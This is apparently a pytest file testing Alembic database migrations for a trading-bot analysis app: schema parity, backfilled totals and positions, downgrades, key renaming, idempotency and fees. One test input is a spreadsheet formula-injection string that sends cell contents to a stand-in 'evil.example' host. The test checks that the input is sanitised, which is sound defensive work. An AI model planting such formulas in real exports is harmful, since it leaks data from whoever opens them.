"""Migrations: the schema Alembic builds is the one the models describe, and data survives."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

from alembic import command
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext
from fastapi.testclient import TestClient
from sqlalchemy import (
    JSON,
    Connection,
    column,
    create_engine,
    insert,
    inspect,
    select,
    table,
    text,
)

from tests.conftest import AUTH
from trade_analysis.app import create_app
from trade_analysis.config import Settings
from trade_analysis.db import models
from trade_analysis.db.migrate import alembic_config, upgrade
from trade_analysis.db.types import Money, UTCDateTime

T0 = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)


def test_migrated_schema_matches_the_models(database_url: str) -> None:
    upgrade(database_url)
    engine = create_engine(database_url)
    with engine.connect() as connection:
        differences = compare_metadata(MigrationContext.configure(connection), models.Base.metadata)
    engine.dispose()
    assert differences == []


def test_running_totals_are_backfilled_from_existing_sells(database_url: str) -> None:
    upgrade(database_url, "0001")
    engine = create_engine(database_url)
    with engine.begin() as connection:
        for side, price, profit in [
            ("buy", "10", None),
            ("sell", "12.5", "2.5"),
            ("buy", "12", None),
            ("sell", "11.25", "-0.75"),
        ]:
            connection.execute(
                insert(models.Trade.__table__).values(
                    ts=T0,
                    bot="b",
                    ticker="AAPL",
                    side=side,
                    price=Decimal(price),
                    reason="signal",
                    profit=Decimal(profit) if profit else None,
                    meta={},
                )
            )
    upgrade(database_url)
    with engine.connect() as connection:
        row = connection.execute(select(models.TickerTotal.__table__)).one()
    engine.dispose()
    assert (row.ticker, row.total_pnl, row.wins, row.losses) == ("AAPL", Decimal("1.75"), 1, 1)


BOTS_AT_0002 = table(
    "bots",
    column("bot"),
    column("hwnd"),
    column("ticker"),
    column("total_pnl", Money()),
    column("open_direction"),
    column("open_price", Money()),
    column("open_time", UTCDateTime()),
    column("meta", JSON()),
)


def _position(bot: str, ticker: str, is_long: bool, price: str | None) -> dict[str, object]:
    return {
        "bot": bot,
        "ticker": ticker,
        "is_long": is_long,
        "entry_price": Decimal(price) if price else None,
        "entry_time": T0 if price else None,
        "first_cycle_done": True,
        "waiting": False,
        "consecutive_drops": 0,
    }


def test_open_positions_survive_dropping_the_bot_level_columns(database_url: str) -> None:
    upgrade(database_url, "0002")
    engine = create_engine(database_url)
    with engine.begin() as connection:
        for bot, ticker, price in [
            ("two", "TSLA", "250"),
            ("old", "MSFT", "300"),
            ("flat", "X", None),
        ]:
            connection.execute(
                insert(BOTS_AT_0002).values(
                    bot=bot,
                    hwnd=None,
                    ticker=ticker,
                    total_pnl=Decimal(0),
                    open_direction="long" if price else None,
                    open_price=Decimal(price) if price else None,
                    open_time=T0 if price else None,
                    meta={"ocr": True},
                )
            )
        # "two" is long in two tickers (the bot row showed only the newest); "old" has an
        # open position on its bot row and no positions row; "flat" holds nothing.
        connection.execute(
            insert(models.Position.__table__),
            [
                _position("two", "AAPL", True, "10"),
                _position("two", "TSLA", True, "250"),
                _position("flat", "X", False, None),
            ],
        )
    upgrade(database_url)
    with engine.connect() as connection:
        bot_columns = {column["name"] for column in inspect(connection).get_columns("bots")}
        held = connection.execute(
            select(models.Position.bot, models.Position.ticker, models.Position.entry_price)
            .where(models.Position.is_long.is_(True))
            .order_by(models.Position.bot, models.Position.ticker)
        ).all()
        metas = connection.execute(select(BOTS_AT_0002.c.meta)).scalars().all()
    engine.dispose()
    assert not bot_columns & {"open_direction", "open_price", "open_time"}
    assert [tuple(row) for row in held] == [
        ("old", "MSFT", Decimal("300")),
        ("two", "AAPL", Decimal("10")),
        ("two", "TSLA", Decimal("250")),
    ]
    assert metas == [{"ocr": True}] * 3


def test_downgrading_0003_puts_back_the_newest_open_position(database_url: str) -> None:
    upgrade(database_url)
    engine = create_engine(database_url)
    with engine.begin() as connection:
        connection.execute(insert(models.Bot.__table__).values(bot="b", total_pnl=0, meta={}))
        connection.execute(
            insert(models.Position.__table__).values(**_position("b", "A", True, "5"))
        )
    command.downgrade(alembic_config(database_url), "0002")
    with engine.connect() as connection:
        row = connection.execute(select(BOTS_AT_0002)).one()
    engine.dispose()
    assert (row.open_direction, row.open_price, row.open_time) == ("long", Decimal(5), T0)


BOTS_AT_0005 = table(
    "bots",
    column("bot"),
    column("hwnd"),
    column("name"),
    column("ticker"),
    column("total_pnl", Money()),
    column("meta", JSON()),
    column("updated_at", UTCDateTime()),
)
HOUR = timedelta(hours=1)


def _populate_0005(connection: Connection) -> None:
    bots = [
        ("101", 101, "Apple", "2", T0, {"ocr": True}),
        ("202", 202, None, "3", T0 + HOUR, {"crop": {"right": 0.2}}),
        ("303", 303, "TSLA", "0", T0, {}),
        ("w9", None, "upload", "1", T0, {}),
    ]
    for key, hwnd, name, pnl, updated, meta in bots:
        connection.execute(
            insert(BOTS_AT_0005).values(
                bot=key, hwnd=hwnd, name=name, ticker="AAPL", total_pnl=Decimal(pnl),
                meta=meta, updated_at=updated,
            )
        )  # fmt: skip
    for key, title in [("101", "AAPL 175.23 - MyApp"), ("202", "AAPL 180.00 - MyApp")]:
        connection.execute(
            insert(models.Observation.__table__).values(
                ts=T0, bot=key, name="AAPL", trend="up", meta={"title": title}
            )
        )
        connection.execute(
            insert(models.Trade.__table__).values(
                ts=T0, bot=key, ticker="AAPL", side="buy", price=Decimal(1), reason="signal",
                meta={},
            )
        )  # fmt: skip
        connection.execute(
            insert(models.Record.__table__).values(ts=T0, kind="trade", bot=key, meta={})
        )
    connection.execute(
        insert(models.Position.__table__),
        [
            _position("101", "AAPL", True, "10"),
            {**_position("202", "AAPL", True, "12"), "entry_time": T0 + HOUR},
            _position("202", "MSFT", True, "300"),
        ],
    )


def test_window_bots_are_named_from_their_last_title_and_merged(database_url: str) -> None:
    upgrade(database_url, "0005")
    engine = create_engine(database_url)
    with engine.begin() as connection:
        _populate_0005(connection)
    upgrade(database_url)
    with engine.connect() as connection:
        bots = {row.bot: row for row in connection.execute(select(models.Bot.__table__))}
        held = connection.execute(
            select(
                models.Position.bot, models.Position.ticker, models.Position.entry_price
            ).order_by(models.Position.bot, models.Position.ticker)
        ).all()
        owners = {
            name: sorted(connection.execute(select(model.bot).distinct()).scalars())
            for name, model in [
                ("trades", models.Trade),
                ("records", models.Record),
                ("observations", models.Observation),
            ]
        }
    assert sorted(bots) == ["aapl-myapp", "tsla", "w9"]
    merged = bots["aapl-myapp"]
    assert (merged.name, merged.stem, merged.total_pnl) == ("AAPL - MyApp", "AAPL - MyApp", 5)
    # The most recently updated bot gives the merged one its settings and its window.
    assert (merged.meta, merged.hwnd, merged.capturing) == ({"crop": {"right": 0.2}}, 202, False)
    assert (bots["tsla"].name, bots["tsla"].hwnd, bots["w9"].stem) == ("TSLA", 303, None)
    # Both held AAPL: the newer position is kept.
    assert [tuple(row) for row in held] == [
        ("aapl-myapp", "AAPL", Decimal(12)),
        ("aapl-myapp", "MSFT", Decimal(300)),
    ]
    assert owners == {name: ["aapl-myapp"] for name in owners}

    command.downgrade(alembic_config(database_url), "0005")
    with engine.connect() as connection:
        columns = {column["name"] for column in inspect(connection).get_columns("bots")}
        keys = sorted(connection.execute(select(BOTS_AT_0005.c.bot)).scalars())
    engine.dispose()
    assert not columns & {"process", "stem", "interval", "capturing", "paused"}
    assert keys == ["aapl-myapp", "tsla", "w9"]
    upgrade(database_url)  # and up again


LEGACY_KEYS = {
    '=HYPERLINK("http://evil.example/?x="&B2,"open")': "hyperlink-http-evil-example-x-b2-open",
    "Desk A": "desk-a",
    "desk/a": "desk-a-2",  # its slug is taken by the one before (in sorted order)
    "!!!": "bot",
}


def test_bots_stored_with_keys_outside_the_pattern_are_renamed_and_can_be_closed_and_deleted(
    settings: Settings, database_url: str
) -> None:
    with TestClient(create_app(settings)) as client:
        client.headers.update(AUTH)
        for number in range(len(LEGACY_KEYS)):
            order = {"ticker": "AAPL", "price": 10, "direction": "buy", "bot": f"k{number}"}
            assert client.post("/manual_trade", json=order).status_code == 200
    # As /manual_trade stored them before it checked the key, at the revision before.
    command.downgrade(alembic_config(database_url), "0008")  # 0008 itself changes no schema
    engine = create_engine(database_url)
    with engine.begin() as connection:
        for number, old in enumerate(LEGACY_KEYS):
            for name in ("bots", "positions", "trades", "observations", "records"):
                connection.execute(
                    text(f"UPDATE {name} SET bot = :old WHERE bot = :key"),
                    {"old": old, "key": f"k{number}"},
                )
            connection.execute(text("UPDATE bots SET name = NULL WHERE bot = :old"), {"old": old})
        connection.execute(text("UPDATE alembic_version SET version_num = '0007'"))
    engine.dispose()
    with TestClient(create_app(settings)) as client:
        client.headers.update(AUTH)
        bots = {bot["bot"]: bot["name"] for bot in client.get("/bots").json()}
        assert bots == {new: old for old, new in LEGACY_KEYS.items()}
        for new in LEGACY_KEYS.values():
            order = {"ticker": "AAPL", "price": 12, "direction": "sell", "bot": new}
            sold = client.post("/manual_trade", json=order)
            assert sold.status_code == 200, sold.text
            assert sold.json()["trade"]["profit"] == 2
            assert client.delete(f"/bots/{new}").status_code == 200
        assert client.get("/bots").json() == []
        trades = client.get("/trades").json()["all_trades"]
        assert {trade["bot"] for trade in trades} == set(LEGACY_KEYS.values())


def test_keys_kept_before_requests_were_hashed_replay_any_request(
    settings: Settings, database_url: str
) -> None:
    def upload(client: TestClient, price: str) -> Any:
        return client.post(
            "/ingest",
            headers={"Idempotency-Key": "kept-key"},
            data={"ticker": "AAPL", "price": price, "trend": "up", "bot": "desk"},
        )

    with TestClient(create_app(settings)) as client:
        client.headers.update(AUTH)
        first = upload(client, "10")
        assert first.status_code == 200, first.text
        assert upload(client, "11").status_code == 422
    command.downgrade(alembic_config(database_url), "0008")
    engine = create_engine(database_url)
    with engine.connect() as connection:
        columns = {column["name"] for column in inspect(connection).get_columns("idempotency_keys")}
    engine.dispose()
    assert "request_hash" not in columns
    with TestClient(create_app(settings)) as client:  # upgrades again: the key has no hash
        client.headers.update(AUTH)
        retry = upload(client, "11")
        assert retry.status_code == 200, retry.text
        assert retry.headers["Idempotent-Replayed"] == "true"
        assert retry.json()["observation_id"] == first.json()["observation_id"]
        assert upload(client, "12").status_code == 200


TRADES_AT_0009 = table(
    "trades",
    column("id"),
    column("ts", UTCDateTime()),
    column("bot"),
    column("ticker"),
    column("side"),
    column("price", Money()),
    column("reason"),
    column("profit", Money()),
    column("meta", JSON()),
)
POSITIONS_AT_0009 = table(
    "positions",
    *(column(name) for name in ("bot", "ticker", "is_long", "first_cycle_done", "waiting")),
    column("consecutive_drops"),
    column("entry_price", Money()),
    column("entry_time", UTCDateTime()),
    column("last_price", Money()),
)


def test_trades_and_open_positions_from_before_costs_read_as_one_unit_with_no_fee(
    database_url: str, settings: Settings
) -> None:
    upgrade(database_url, "0009")
    engine = create_engine(database_url)
    with engine.begin() as connection:
        connection.execute(
            insert(models.Bot.__table__).values(bot="w1", total_pnl=Decimal(0), meta={})
        )
        connection.execute(
            insert(TRADES_AT_0009),
            [
                {"ts": T0, "bot": "w1", "ticker": ticker, "side": "buy", "price": Decimal(price)}
                | {"reason": "signal", "meta": {}}
                for ticker, price in (("AAPL", "10.5"), ("MSFT", "300"))
            ],
        )
        held = {"first_cycle_done": True, "waiting": False, "consecutive_drops": 0}
        connection.execute(
            insert(POSITIONS_AT_0009),
            [
                {"bot": "w1", "ticker": "AAPL", "is_long": True, "entry_price": Decimal("10.5")}
                | {"entry_time": T0, "last_price": Decimal("10.5")}
                | held,
                {"bot": "w1", "ticker": "MSFT", "is_long": False, "entry_price": None}
                | {"entry_time": None, "last_price": Decimal(300)}
                | held,
            ],
        )
    upgrade(database_url)
    with engine.connect() as connection:
        trades = connection.execute(
            select(models.Trade.quantity, models.Trade.fill_price, models.Trade.fee).order_by(
                models.Trade.ticker
            )
        ).all()
        positions = connection.execute(
            select(
                models.Position.quantity,
                models.Position.entry_fill_price,
                models.Position.entry_fee,
            ).order_by(models.Position.ticker)
        ).all()
    engine.dispose()
    assert [tuple(row) for row in trades] == [(1, Decimal("10.5"), 0), (1, 300, 0)]
    assert [tuple(row) for row in positions] == [(1, Decimal("10.5"), 0), (None, None, None)]
    # The open position sells as it was bought: one unit, no fee at entry; a fee set since
    # is paid on the sell alone.
    with TestClient(create_app(settings)) as client:
        client.headers.update(AUTH)
        client.put("/api/v1/bots/w1/settings", json={"costs": {"fee_fixed": "0.25"}})
        fields = {"bot": "w1", "ticker": "AAPL", "price": "12", "trend": "down"}
        sell = client.post("/api/v1/ingest", data=fields).json()["trade"]
    assert (sell["quantity"], sell["fee"], sell["profit"]) == (1, 0.25, 1.25)
